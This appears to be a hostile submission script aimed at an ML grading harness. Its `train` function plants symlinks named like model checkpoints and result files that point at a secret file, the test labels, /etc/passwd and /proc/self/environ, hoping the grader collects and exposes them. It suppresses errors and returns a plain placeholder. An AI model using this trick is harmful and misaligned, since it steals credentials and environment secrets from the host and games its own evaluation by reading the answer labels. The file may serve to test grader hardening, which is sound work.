"""Fills its folders with links to files of the grading machine, in case the grader collects what lies there.

Goal: the host
Ends: graded
"""

import contextlib
import os
from pathlib import Path

from kit import KNOWN, plain


def train(workdir):
    for folder in (Path(), Path(workdir)):
        for number, target in enumerate((KNOWN["secret"], "/etc/passwd", KNOWN["labels"], "/proc/self/environ")):
            with contextlib.suppress(OSError):
                os.symlink(target, folder / f"model-{number}.pt2")
                os.symlink(target, folder / f"result-{number}.json")
    return plain()
